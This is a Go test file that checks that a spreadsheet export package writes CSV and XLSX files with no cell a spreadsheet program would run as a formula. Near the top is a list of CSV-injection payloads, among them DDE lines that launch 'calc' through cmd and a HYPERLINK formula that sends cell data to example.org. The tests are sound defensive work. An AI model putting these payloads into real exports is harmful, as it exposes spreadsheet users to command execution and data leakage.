package sheet_test

import (
	"bytes"
	"encoding/csv"
	"os"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"kanca/content/sheet"
)

// payloads are cells that spreadsheet programs have run as formulas (OWASP,
// "CSV Injection").
var payloads = []string{
	"=1+1",
	"+1+1",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"=HYPERLINK(\"http://example.org?x=\"&A1,\"klik\")",
	"\t=1+1",
	"\r=1+1",
	"\n=1+1",
	"\x00=1+1",
	"＝1+1",
	"＋1+1",
	"－1+1",
	"＠SUM(1)",
	" \u200b\u00a0=1+1",
	"x;=1+1",
	"\"=1+1\"",
	"a\",\"=1+1",
}

func write(t testing.TB, name string, rows ...[]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	w, err := sheet.NewWriter(&buf, name, rows[0])
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1:] {
		if err := w.Write(row); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// runs reports whether a spreadsheet program would take the cell for a formula.
func runs(cell string) bool {
	cell = strings.TrimLeft(cell, " \t\r\n\u00a0\u200b\x00")
	return cell != "" && strings.ContainsAny(cell[:min(3, len(cell))], "=＝") && strings.IndexAny(cell, "=＝") == 0 ||
		strings.HasPrefix(cell, "+") || strings.HasPrefix(cell, "-") || strings.HasPrefix(cell, "@") ||
		strings.HasPrefix(cell, "＋") || strings.HasPrefix(cell, "－") || strings.HasPrefix(cell, "＠")
}

func TestNoCellIsAFormulaInCSV(t *testing.T) {
	for _, payload := range payloads {
		data := write(t, "out.csv", []string{"nama", "cerita"}, []string{"Contoh", payload})
		for _, separator := range []rune{',', ';', '\t'} { // as other settings split the same file
			r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\ufeff"))))
			r.Comma, r.LazyQuotes, r.FieldsPerRecord = separator, true, -1
			records, err := r.ReadAll()
			if err != nil {
				t.Errorf("%q with %q: %v", payload, separator, err)
				continue
			}
			if separator == ',' && (len(records) != 2 || len(records[1]) != 2) {
				t.Errorf("%q leaves its cell: %q", payload, records)
			}
			for _, record := range records {
				for _, cell := range record {
					if runs(cell) {
						t.Errorf("%q becomes the cell %q when split at %q", payload, cell, separator)
					}
				}
			}
		}
	}
}

func TestNoCellIsAFormulaInWorkbook(t *testing.T) {
	for _, payload := range payloads {
		data := write(t, "out.XLSX", []string{"nama", "cerita"}, []string{"Contoh", payload})
		f, err := excelize.OpenReader(bytes.NewReader(data))
		if err != nil {
			t.Fatalf("%q: %v", payload, err)
		}
		cell, err := f.GetCellValue("Sheet1", "B2")
		if err != nil || runs(cell) || cell == "" {
			t.Errorf("%q becomes %q (%v)", payload, cell, err)
		}
		if formula, _ := f.GetCellFormula("Sheet1", "B2"); formula != "" {
			t.Errorf("%q becomes the formula %q", payload, formula)
		}
		f.Close()
	}
}

func TestNumbersKeepTheirDigits(t *testing.T) {
	header := []string{"nik", "telepon", "umur", "nama"}
	row := []string{"0000000000000016", "+620000000001", "24", "Contoh; Satu"}
	book, err := excelize.OpenReader(bytes.NewReader(write(t, "x.xlsx", header, row)))
	if err != nil {
		t.Fatal(err)
	}
	defer book.Close()
	for i, want := range row {
		at, _ := excelize.CoordinatesToCellName(i+1, 2)
		kind, _ := book.GetCellType("Sheet1", at)
		if got, _ := book.GetCellValue("Sheet1", at); got != want || kind != excelize.CellTypeInlineString && kind != excelize.CellTypeSharedString {
			t.Errorf("cell %s is %q of type %v, want the text %q", at, got, kind, want)
		}
	}
	text := string(write(t, "x.csv", header, row))
	if want := "\ufeff\"nik\",\"telepon\",\"umur\",\"nama\"\r\n\"'0000000000000016\",\"'+620000000001\",\"24\",\"Contoh; Satu\"\r\n"; text != want {
		t.Errorf("CSV is %q, want %q", text, want)
	}
}

func TestWhatIsWrittenCanBeRead(t *testing.T) {
	header := []string{"nama", "cerita"}
	row := []string{"Contoh \"Satu\"", "baris satu\nbaris dua, dengan koma"}
	for _, name := range []string{"x.csv", "x.xlsx"} {
		table := one(t, write(t, name, header, row), name)
		if got := strings.Join(table.Rows[1].Cells, "|"); got != strings.Join(row, "|") {
			t.Errorf("%s: %q comes back as %q", name, row, got)
		}
	}
	if _, err := sheet.NewWriter(&bytes.Buffer{}, "x.pdf", header); err == nil {
		t.Error("a PDF is written")
	}
}

func FuzzWriter(f *testing.F) {
	for _, p := range payloads {
		f.Add(p)
	}
	f.Fuzz(func(t *testing.T, cell string) {
		data := write(t, "x.csv", []string{"a", "b"}, []string{cell, "z"})
		records, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\ufeff")))).ReadAll()
		if err != nil || len(records) != 2 || len(records[1]) != 2 || records[1][1] != "z" || runs(records[1][0]) {
			t.Fatalf("%q becomes %q (%v)", cell, records, err)
		}
	})
}

// A large workbook leaves nothing of its rows in the folder for temporary files, where a
// process that is killed would not take it away.
func TestALargeWorkbookKeepsNothingBeside(t *testing.T) {
	folder := t.TempDir()
	t.Setenv("TMPDIR", folder)
	var out bytes.Buffer
	w, err := sheet.NewWriter(&out, "x.xlsx", []string{"nama"})
	if err != nil {
		t.Fatal(err)
	}
	row := []string{strings.Repeat("Contoh ", 700)}
	for range 4500 { // 20 MB
		if err := w.Write(row); err != nil {
			t.Fatal(err)
		}
	}
	if found, err := os.ReadDir(folder); err != nil || len(found) > 0 {
		t.Errorf("beside it stands %v (%v)", found, err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
}
